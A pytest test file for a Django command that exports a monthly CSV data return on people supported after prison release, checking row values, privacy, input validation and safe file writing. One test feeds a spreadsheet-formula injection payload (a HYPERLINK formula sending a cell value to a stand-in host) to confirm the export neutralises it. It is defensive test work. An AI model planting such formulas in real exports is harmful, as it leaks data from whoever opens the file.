"""`manage.py export_reconnect_return` on the hand-worked world of reconnect_known.py."""

import csv
import os
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import CommandError, call_command

from healthjustice.audit.models import Action, AuditEvent
from healthjustice.reconnect.selectors import months_after
from healthjustice.reporting import reconnect_return
from healthjustice.reporting.reconnect_return import COLUMN_NAMES
from tests.reporting.reconnect_known import D, build_reconnect_known, on

pytestmark = pytest.mark.django_db


@pytest.fixture
def known():
    return build_reconnect_known()


def _read(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        return list(reader.fieldnames or []), list(reader)


def _export(known, month, tmp_path, region="Staffordshire"):
    out = tmp_path / "reconnect.csv"
    call_command("export_reconnect_return", month=month.key, region=region, out=str(out))
    columns, rows = _read(out)
    refs = {str(e.public_id): name for name, e in known.episodes.items()}
    return columns, {refs[r["episode_ref"]]: r for r in rows}


def test_export_reconnect_return_has_one_row_per_episode_active_in_the_month(known, tmp_path):
    columns, rows = _export(known, known.a, tmp_path)
    assert columns == list(COLUMN_NAMES)
    assert set(rows) == {"r1", "r2", "r3", "r4"}
    _, rows = _export(known, known.b, tmp_path)
    assert set(rows) == {"r1", "r3", "r4", "r5", "r6", "r7", "r8"}, "r2 closed in A; r9 elsewhere"
    event = AuditEvent.objects.filter(action=Action.EXPORT, object_type="data_return").last()
    assert event.detail["return"] == "reconnect" and event.detail["rows"] == 7


def test_every_row_carries_ethnic_category_age_group_and_sex(known, tmp_path):
    _, rows = _export(known, known.b, tmp_path)
    r1 = rows["r1"]
    assert (r1["ethnic_category_code"], r1["ethnic_code_list"]) == ("A", "2001")
    assert r1["age_group"] == "25-34" and r1["sex"] == "2"
    assert all(r["age_group"] and r["sex"] is not None for r in rows.values())


def test_export_reconnect_return_row_values(known, tmp_path):
    a, b = known.a, known.b
    _, rows = _export(known, b, tmp_path)
    r1 = rows["r1"]
    assert r1["referrer"] == "prison_healthcare" and r1["referred_in_window"] == "yes"
    assert r1["released_on"] == on(a, 3).isoformat()
    assert (r1["engaged_before_release"], r1["met_at_gate"]) == ("yes", "yes")
    assert r1["gp_registered_within_28_days"] == "yes"
    assert r1["gp_registered_on"] == (on(a, 3) + 28 * D).isoformat()
    assert (r1["handovers"], r1["first_handover_on"]) == ("1", on(a, 5).isoformat())
    assert r1["engaged_at_4_weeks"] == "yes"
    assert r1["support_ended_on"] == on(a, 10).isoformat()
    assert r1["days_supported_after_release"] == "7"
    assert (r1["stage_at_month_end"], r1["closure_reason"]) == ("closed", "needs_met")
    assert rows["r3"]["engaged_before_release"] == "no"
    assert rows["r3"]["contacts_after_release_in_month"] == "0"
    assert rows["r5"]["contacts_before_release_in_month"] == "1"
    assert rows["r5"]["support_ends_on"] == months_after(on(b, 3), 6).isoformat()
    assert rows["r6"]["referred_in_window"] == ""
    assert rows["r4"]["released_on"] == "" and rows["r4"]["engaged_before_release"] == ""
    assert rows["r7"]["recalled_on"] == on(b, 20).isoformat()
    assert (rows["r7"]["closure_reason"], rows["r7"]["days_supported_after_release"]) == (
        "recalled",
        "12",
    )
    assert rows["r7"]["met_at_gate"] == ""


def test_export_reconnect_return_rows_are_as_at_the_end_of_the_month(known, tmp_path):
    _, rows = _export(known, known.a, tmp_path)
    r1 = rows["r1"]
    assert r1["stage_at_month_end"] == "handed_over"
    assert (r1["closed_at"], r1["closure_reason"]) == ("", "")
    assert r1["engaged_at_4_weeks"] == "no", "the 4-week check is dated in month B"
    assert rows["r2"]["referred_in_window"] == "no"
    assert rows["r2"]["gp_registered_within_28_days"] == "no", "day 29 is too late"
    assert rows["r4"]["contacts_before_release_in_month"] == "1"
    assert rows["r3"]["contacts_after_release_in_month"] == "1"


def test_export_reconnect_return_holds_no_names_nhs_numbers_or_birth_dates(known, tmp_path):
    out = tmp_path / "reconnect.csv"
    call_command("export_reconnect_return", month=known.b.key, region="staffordshire", out=str(out))
    text = out.read_text()
    for episode in known.episodes.values():
        person = episode.person
        assert person.family_name not in text
        assert person.nhs_number not in text
        if person.date_of_birth:
            assert person.date_of_birth.isoformat() not in text


@pytest.mark.parametrize("month", ["2026-13", "03-2026", "2026-3", "March", ""])
def test_export_reconnect_return_bad_month_is_refused(known, tmp_path, month):
    out = tmp_path / "reconnect.csv"
    with pytest.raises(CommandError, match=r"YYYY-MM|01 to 12"):
        call_command("export_reconnect_return", month=month, region="Staffordshire", out=str(out))
    assert not out.exists()


def test_export_reconnect_return_unknown_region_is_refused(known, tmp_path):
    out = tmp_path / "reconnect.csv"
    with pytest.raises(CommandError, match="There is no region called 'Atlantis'"):
        call_command("export_reconnect_return", month="2026-03", region="Atlantis", out=str(out))
    assert not out.exists()
    assert not AuditEvent.objects.filter(object_type="data_return").exists()


def test_export_reconnect_return_to_a_missing_folder_or_a_folder_is_refused(known, tmp_path):
    missing = tmp_path / "no-such-folder" / "reconnect.csv"
    with pytest.raises(CommandError, match="does not exist"):
        call_command(
            "export_reconnect_return", month="2026-03", region="Staffordshire", out=str(missing)
        )
    with pytest.raises(CommandError, match="is a folder"):
        call_command(
            "export_reconnect_return", month="2026-03", region="Staffordshire", out=str(tmp_path)
        )


def test_export_reconnect_return_to_a_folder_it_may_not_write_is_refused(
    known, tmp_path, monkeypatch
):
    """The same refusal for any user (root may write anywhere, so the check is simulated)."""
    monkeypatch.setattr("healthjustice.reporting.data_return.os.access", lambda *a: False)
    out = tmp_path / "reconnect.csv"
    with pytest.raises(CommandError, match="cannot be written"):
        call_command(
            "export_reconnect_return", month=known.b.key, region="Staffordshire", out=str(out)
        )
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write to any folder")
def test_export_reconnect_return_to_a_read_only_folder_is_refused(known, tmp_path):
    folder = tmp_path / "locked"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        with pytest.raises(CommandError, match="cannot be written"):
            call_command(
                "export_reconnect_return",
                month="2026-03",
                region="Staffordshire",
                out=str(folder / "reconnect.csv"),
            )
    finally:
        folder.chmod(0o700)
    assert list(folder.iterdir()) == []


def test_export_reconnect_return_failing_half_way_leaves_no_partial_file(
    known, tmp_path, monkeypatch
):
    def failing(context):
        raise RuntimeError("disk full")

    broken = reconnect_return.Column("closure_reason", failing)
    columns = tuple(broken if c.name == "closure_reason" else c for c in reconnect_return.COLUMNS)
    monkeypatch.setattr(reconnect_return, "COLUMNS", columns)
    out = tmp_path / "reconnect.csv"
    with pytest.raises(RuntimeError):
        call_command(
            "export_reconnect_return", month=known.b.key, region="Staffordshire", out=str(out)
        )
    assert list(tmp_path.iterdir()) == []


def test_export_reconnect_return_for_a_month_with_no_episodes_writes_the_header_only(
    known, tmp_path
):
    out = tmp_path / "reconnect.csv"
    call_command("export_reconnect_return", month="2001-01", region="Staffordshire", out=str(out))
    assert _read(out) == (list(COLUMN_NAMES), [])


def test_export_reconnect_return_cannot_carry_a_spreadsheet_formula(tmp_path):
    hostile = '=HYPERLINK("https://example.invalid/?d="&A2,"Open")'
    known = build_reconnect_known(team_name=hostile)
    out = tmp_path / "reconnect.csv"
    call_command("export_reconnect_return", month=known.b.key, region="Staffordshire", out=str(out))
    _, rows = _read(out)
    assert "'" + hostile in {r["team"] for r in rows}


def test_every_reconnect_return_column_and_figure_is_documented():
    text = (Path(settings.BASE_DIR) / "docs" / "reconnect-return.md").read_text()
    documented = set(re.findall(r"^\| `([a-z_0-9]+)` \|", text, flags=re.MULTILINE))
    assert documented == set(COLUMN_NAMES)
    from healthjustice.reporting.reconnect_dashboard import FIGURES

    for figure in FIGURES:
        assert f"`{figure.id}`" in text, figure.id
